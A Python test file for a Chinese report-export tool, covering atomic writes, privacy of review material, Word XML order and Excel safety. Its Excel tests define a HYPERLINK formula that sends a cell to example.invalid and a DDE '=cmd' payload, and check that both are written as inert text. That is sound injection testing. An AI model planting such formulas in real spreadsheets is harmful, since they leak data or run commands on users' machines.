"""Exports that never lose the previous file, tell the truth when they fail, leak no review material and
hold whatever the model accepts: full disks, unwritable folders, hostile text, huge figures, formulas."""

from __future__ import annotations

import datetime as dt
import errno
import io
import json
import pkgutil
import re
import subprocess
import sys
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from docx.oxml.ns import qn
from lxml import etree

import core
from core import atomic, marker
from core.atomic import WriteError, write_atomic
from core.export import Options
from core.export.document import build, format_figure
from core.export.docx import write_docx
from core.export.text import write_text
from core.export.xlsx import CHECK_SHEET, write_xlsx
from core.imports.docx import read_docx
from core.imports.xlsx import read_xlsx
from core.model import Change, Comment
from core.rules import check
from tests.factories import filled_report, run_cli, sample

ROOT = Path(__file__).resolve().parents[2]
SECRET = "审核人张某某认为第三段数字可疑"
REVIEWER = "市政务公开办李审核"
OLD_VALUE, NEW_VALUE = "旧值甲乙丙", "新值丁戊己"


def reviewed_report():
    r = filled_report()
    r.comments.append(Comment(author=REVIEWER, text=SECRET, location={"table": "table3", "row": "new",
                                                                       "column": "natural"}, reply="已核实"))
    r.history.append(Change(author=REVIEWER, where="第一部分", old=OLD_VALUE, new=NEW_VALUE))
    return r


# -- the core is free of Qt ------------------------------------------------------------------------


def test_every_core_module_imports_without_qt():
    names = [m.name for m in pkgutil.walk_packages(core.__path__, "core.") if not m.name.endswith("__main__")]
    assert "core.export.paginate" in names and "core.export.pdf" in names and len(names) > 40
    probe = ("import importlib, sys\n"
             f"for name in {names!r}:\n"
             "    importlib.import_module(name)\n"
             "print(sorted(m for m in sys.modules if m.startswith(('PySide6', 'shiboken6', 'gui'))))")
    out = subprocess.run([sys.executable, "-c", probe], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "[]"


def test_no_core_source_names_the_gui_package():
    for path in (ROOT / "core").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"^\s*(from|import)\s+(gui|PySide6)\b", text, re.M), path


# -- atomic writes: the previous file survives every failure --------------------------------------


class _FullDisk(io.FileIO):
    """A file on a disk that fills after ``room`` bytes."""

    room = 1000

    def write(self, data):
        if self.tell() + len(data) > self.room:
            super().write(bytes(data)[:max(0, self.room - self.tell())])
            raise OSError(errno.ENOSPC, "No space left on device")
        return super().write(data)


@pytest.fixture
def full_disk(monkeypatch):
    monkeypatch.setattr(atomic, "open", lambda path, mode="r", *a, **k: _FullDisk(path, mode.replace("b", "")),
                        raising=False)


@pytest.mark.parametrize("kind", ["docx", "xlsx", "txt"])
def test_a_full_disk_keeps_the_previous_export(kind, tmp_path, monkeypatch):
    writers = {"docx": write_docx, "xlsx": write_xlsx, "txt": write_text}
    target = tmp_path / f"报告.{kind}"
    writers[kind](filled_report(), target)
    before = target.read_bytes()
    monkeypatch.setattr(atomic, "open", lambda path, mode="r", *a, **k: _FullDisk(path, mode.replace("b", "")),
                        raising=False)
    with pytest.raises(WriteError, match="磁盘空间不足.*原文件未被改动"):
        writers[kind](reviewed_report(), target)
    assert target.read_bytes() == before
    assert atomic.stray_temp_files(tmp_path) == []


def test_cli_export_on_a_full_disk_says_so_and_exits_2(capsys, tmp_path, full_disk):
    docx, xlsx = tmp_path / "r.docx", tmp_path / "r.xlsx"
    docx.write_bytes(b"previous good file")
    code, out, err = run_cli(capsys, "export", str(sample("001")), "--docx", str(docx), "--xlsx", str(xlsx))
    assert code == 2
    assert "导出 Word 失败" in err and "磁盘空间不足" in err and "导出 Excel 失败" in err
    assert "Traceback" not in err and "No space" not in err
    assert docx.read_bytes() == b"previous good file" and not xlsx.exists()


def test_cli_export_into_an_unwritable_folder(capsys, tmp_path, monkeypatch):
    def refuse(path):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(atomic, "_create", refuse)  # the folder refuses new files (as for a non-root user)
    code, out, err = run_cli(capsys, "export", str(sample("001")), "--docx", str(tmp_path / "r.docx"))
    assert code == 2 and "没有写入权限" in err and "已导出" not in out
    assert not (tmp_path / "r.docx").exists()


def test_a_missing_folder_is_named(tmp_path):
    with pytest.raises(WriteError, match="文件夹.*不存在"):
        write_docx(filled_report(), tmp_path / "没有这个文件夹" / "r.docx")


def test_a_cut_file_is_refused_before_it_replaces_anything(tmp_path):
    target = tmp_path / "r.docx"
    write_docx(filled_report(), target)
    before = target.read_bytes()
    from core.export.docx import check_zip

    with pytest.raises(WriteError, match="未能正确写出"):
        write_atomic(target, before[: len(before) // 2], check=check_zip)
    assert target.read_bytes() == before


def test_permissions_links_backup_and_read_only(tmp_path):
    target = tmp_path / "r.txt"
    write_atomic(target, b"one")
    if sys.platform == "win32":  # no permission bits, and a link needs developer mode: those parts are POSIX's
        write_atomic(target, b"two", backup=True)
    else:
        target.chmod(0o640)
        link = tmp_path / "link.txt"
        link.symlink_to(target)
        write_atomic(link, b"two", backup=True)
        assert link.is_symlink() and target.read_bytes() == b"two" and (target.stat().st_mode & 0o777) == 0o640
    assert (tmp_path / "r.txt.bak").read_bytes() == b"one"
    (tmp_path / ".r.txt.0badc0de.tmp").write_bytes(b"left by a kill")
    target.chmod(0o440)
    if not atomic.is_read_only(target):
        pytest.skip("running as a user who may write read-only files")
    with pytest.raises(atomic.ReadOnlyError):
        write_atomic(target, b"three", overwrite_read_only=False)
    write_atomic(target, b"three")
    assert target.read_bytes() == b"three" and atomic.stray_temp_files(tmp_path) == []


# -- privacy: published files carry no review material --------------------------------------------


def _every_part(path: Path) -> str:
    data = path.read_bytes()
    if not zipfile.is_zipfile(path):
        return data.decode("utf-8", "replace")
    with zipfile.ZipFile(path) as z:
        return "\n".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())


def test_published_files_carry_no_comment_reviewer_or_history(tmp_path):
    report = reviewed_report()
    paths = [write_docx(report, tmp_path / "r.docx"), write_xlsx(report, tmp_path / "r.xlsx"),
             write_text(report, tmp_path / "r.txt")]
    for path in paths:
        text = _every_part(path)
        json_text = json.dumps(text, ensure_ascii=True)  # the marker may hold escaped text
        for secret in (SECRET, REVIEWER, OLD_VALUE, NEW_VALUE, "已核实"):
            assert secret not in text, (path.name, secret)
            assert json.dumps(secret, ensure_ascii=True)[1:-1] not in json_text, (path.name, secret)
        assert '"comments"' not in text and '"history"' not in text
    assert read_docx(paths[0]).comments == [] and read_xlsx(paths[1]).history == []


def test_the_review_copy_says_what_it_is_and_carries_the_review(tmp_path):
    path = write_docx(reviewed_report(), tmp_path / "审核副本.docx", options=Options(review=True))
    text = _every_part(path)
    assert SECRET in text and REVIEWER in text and OLD_VALUE in text
    from docx import Document

    doc = Document(str(path))
    assert doc.sections[0].header.paragraphs[0].text.startswith("审核副本")
    assert "不得公开" in doc.core_properties.comments


# -- Word XML ---------------------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TBLPR_ORDER = ["tblStyle", "tblpPr", "tblOverlap", "bidiVisual", "tblStyleRowBandSize", "tblStyleColBandSize",
               "tblW", "jc", "tblCellSpacing", "tblInd", "tblBorders", "shd", "tblLayout", "tblCellMar", "tblLook",
               "tblCaption", "tblDescription"]


def _first_line(ppr, styles) -> tuple[str | None, str | None]:
    """The first-line indent a paragraph gets: its own, else its style's chain, else Normal's."""
    ind = ppr.find(f"{{{W}}}ind") if ppr is not None else None
    if ind is not None and (ind.get(f"{{{W}}}firstLineChars") is not None or ind.get(f"{{{W}}}firstLine")):
        return ind.get(f"{{{W}}}firstLine"), ind.get(f"{{{W}}}firstLineChars")
    style = ppr.find(f"{{{W}}}pStyle").get(f"{{{W}}}val") if ppr is not None and \
        ppr.find(f"{{{W}}}pStyle") is not None else "Normal"
    while style:
        el = styles.get(style)
        ind = el.find(f"{{{W}}}pPr/{{{W}}}ind") if el is not None else None
        if ind is not None and ind.get(f"{{{W}}}firstLineChars") is not None:
            return ind.get(f"{{{W}}}firstLine"), ind.get(f"{{{W}}}firstLineChars")
        based = el.find(f"{{{W}}}basedOn") if el is not None else None
        style = based.get(f"{{{W}}}val") if based is not None else None
    return None, None


def test_no_first_line_indent_in_title_cells_or_footers(tmp_path):
    r = filled_report()
    r.meta.sign_date = dt.date(2026, 1, 20)
    path = write_docx(r, tmp_path / "r.docx")
    with zipfile.ZipFile(path) as z:
        styles_root = etree.fromstring(z.read("word/styles.xml"))
        styles = {s.get(f"{{{W}}}styleId"): s for s in styles_root.iter(f"{{{W}}}style")}
        body = etree.fromstring(z.read("word/document.xml"))
        footers = [etree.fromstring(z.read(n)) for n in z.namelist() if re.match(r"word/(foot|head)er\d*\.xml", n)]
    assert len(footers) >= 2
    title = body.find(f".//{{{W}}}p")
    cells = list(body.iter(f"{{{W}}}tc"))
    assert len(cells) > 100
    checked = [title] + [p for tc in cells for p in tc.iter(f"{{{W}}}p")] + \
              [p for f in footers for p in f.iter(f"{{{W}}}p")]
    for p in checked:
        first, chars = _first_line(p.find(f"{{{W}}}pPr"), styles)
        assert first in (None, "0") and chars in (None, "0"), etree.tostring(p)[:200]
    # Normal itself carries none, so nothing based on it inherits one.
    normal = styles["Normal"].find(f"{{{W}}}pPr/{{{W}}}ind")
    assert normal is None or normal.get(f"{{{W}}}firstLineChars") in (None, "0")


def test_table_properties_in_schema_order_without_duplicates(tmp_path):
    path = write_docx(filled_report(), tmp_path / "r.docx")
    with zipfile.ZipFile(path) as z:
        body = etree.fromstring(z.read("word/document.xml"))
    tables = list(body.iter(f"{{{W}}}tblPr"))
    assert len(tables) == 3
    for tbl_pr in tables:
        names = [etree.QName(c).localname for c in tbl_pr]
        assert len(names) == len(set(names)), names
        assert names == sorted(names, key=TBLPR_ORDER.index), names


def test_every_property_element_in_schema_order(tmp_path):
    """Word refuses a file whose pPr, rPr, tcPr, tblPr or sectPr children are out of the schema's order."""
    from core.export.docx import _ORDER

    path = write_docx(filled_report(), tmp_path / "r.docx")
    checked = 0
    with zipfile.ZipFile(path) as z:
        parts = [n for n in z.namelist() if re.match(r"word/(document|styles|(head|foot)er\d*)\.xml$", n)]
        for name in parts:
            for element in etree.fromstring(z.read(name)).iter(*(f"{{{W}}}{k}" for k in _ORDER)):
                order = _ORDER[etree.QName(element).localname]
                names = [etree.QName(c).localname for c in element]
                assert names == sorted(names, key=lambda n: order.index(n) if n in order else len(order)), \
                    (name, etree.tostring(element)[:300])
                checked += 1
    assert checked > 500  # every table cell's tcPr, pPr and rPr among them


def test_core_properties_name_the_program_and_chinese(tmp_path):
    path = write_docx(filled_report(), tmp_path / "r.docx")
    with zipfile.ZipFile(path) as z:
        core_xml = z.read("docProps/core.xml").decode()
        app = z.read("docProps/app.xml").decode()
        settings = z.read("word/settings.xml").decode()
    assert "政务公开年报助手" in app and "Macintosh" not in app
    assert "zh-CN" in settings and 'w:val="15"' in settings
    year = str(dt.datetime.now(dt.timezone.utc).year)
    assert f"<dcterms:modified xsi:type=\"dcterms:W3CDTF\">{year}" in core_xml


# -- Excel: text never a formula, cached totals ---------------------------------------------------

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'


def _formulas(path: Path) -> dict[str, list[str]]:
    out = {}
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                out[name] = re.findall(r"<f>([^<]*)</f>", z.read(name).decode())
    return out


def test_user_text_starting_with_equals_is_written_as_text(tmp_path):
    r = filled_report()
    r.meta.organ = HOSTILE
    r.table2.set("normative", "in_force", 1)  # a 提示 the clerk explains: the 自检 sheet shows the 说明
    finding = next(f for f in check(r) if f.rule == "T2-VALID")
    r.explanations[finding.key] = "=cmd|' /C calc'!A0"
    path = write_xlsx(r, tmp_path / "r.xlsx")
    for sheet, formulas in _formulas(path).items():
        assert all(f.startswith(("SUM(", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M", "N", "O", "P", "Q",
                                 "C", "B")) and "HYPERLINK" not in f and "cmd" not in f for f in formulas), sheet
    wb = openpyxl.load_workbook(path)
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(HOSTILE in v for v in values) and "=cmd|' /C calc'!A0" in values
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and ("HYPERLINK" in c.value or "cmd|" in c.value):
                    assert c.data_type == "s"
    assert read_xlsx(path).meta.organ == HOSTILE


def test_an_equals_sign_on_a_chunk_boundary_keeps_the_narrative(tmp_path):
    r = filled_report()
    r.texts["overview"] = "=" * (3 * marker.XLSX_CELL_LIMIT)  # every chunk after the first starts with "="
    assert sum(1 for c in marker.chunks(r)[1:] if c.startswith("=")) >= 2
    back = read_xlsx(write_xlsx(r, tmp_path / "r.xlsx"))
    assert back.texts["overview"] == r.texts["overview"] and back.texts == r.texts


def test_cached_values_equal_the_core_totals(tmp_path):
    r = filled_report()
    r.table2.set("fees", "amount", "12.3456")
    path = write_xlsx(r, tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(path, data_only=True)
    formulas = openpyxl.load_workbook(path)
    from core import layout as L
    from core.export.xlsx import address

    checked = 0
    for layout in L.TABLES:
        resolved = r.table(layout.key).resolved()
        for (row, col), _sources in layout.derivation:
            cell = address(layout, row, col)
            assert formulas[layout.name][cell].data_type == "f"
            expected = resolved[(row, col)] or 0
            assert Decimal(str(wb[layout.name][cell].value)) == Decimal(str(expected)), (layout.key, row, col)
            checked += 1
    assert checked >= 20


# -- writers safe for any model the reader accepts (issue 14) -------------------------------------


def test_control_characters_anywhere_never_stop_an_export(tmp_path):
    r = filled_report()
    nasty = "前\x00\x07\x1b\x0b\x0c\ufffe\uffff后"
    r.explanations["T2-VALID:normative"] = nasty
    r.comments.append(Comment(author="a\x01", text=nasty))
    object.__setattr__(r.meta, "organ", "某某县\x08人民政府")  # past the model's own cleaning
    r.texts["other"] = "其他\x1f事项"
    for path in (write_docx(r, tmp_path / "r.docx"), write_xlsx(r, tmp_path / "r.xlsx"),
                 write_docx(r, tmp_path / "审核.docx", options=Options(review=True))):
        assert zipfile.ZipFile(path).testzip() is None
    # read back as the model stores any text: the characters no file format can hold are dropped on entry
    assert read_xlsx(tmp_path / "r.xlsx").explanations["T2-VALID:normative"] == "前后"


@pytest.mark.parametrize("value, shown", [
    (10 ** 19, "10000000000000000000"), (10 ** 30, "数值过大"), (Decimal("1E+999999999"), "E+"),
    (Decimal("1e-999999999"), "E-"), (Decimal("NaN"), ""), (Decimal("12.34560000000000000001"), "12.3456"),
])
def test_figures_are_formatted_within_bounds(value, shown):
    text = format_figure(value)
    assert shown in text and len(text) <= 40


def test_twenty_digit_figures_export(tmp_path):
    r = filled_report()
    r.table3.root["new"]["natural"] = 12345678901234567890  # what an old reader may have let in
    write_docx(r, tmp_path / "r.docx")
    write_xlsx(r, tmp_path / "r.xlsx")
    assert "12345678901234567890" in zipfile.ZipFile(tmp_path / "r.docx").read("word/document.xml").decode()


def test_kills_during_export_leave_the_previous_file_whole():
    """A few rounds of bench/kill_export.py (the note quotes 300 kills per format)."""
    out = subprocess.run([sys.executable, str(ROOT / "bench" / "kill_export.py"), "3"], cwd=ROOT,
                         capture_output=True, text=True, timeout=600,
                         env={**__import__("os").environ, "QT_QPA_PLATFORM": "offscreen"})
    assert out.returncode == 0, out.stdout + out.stderr
    assert out.stdout.count("damaged   0") == 3
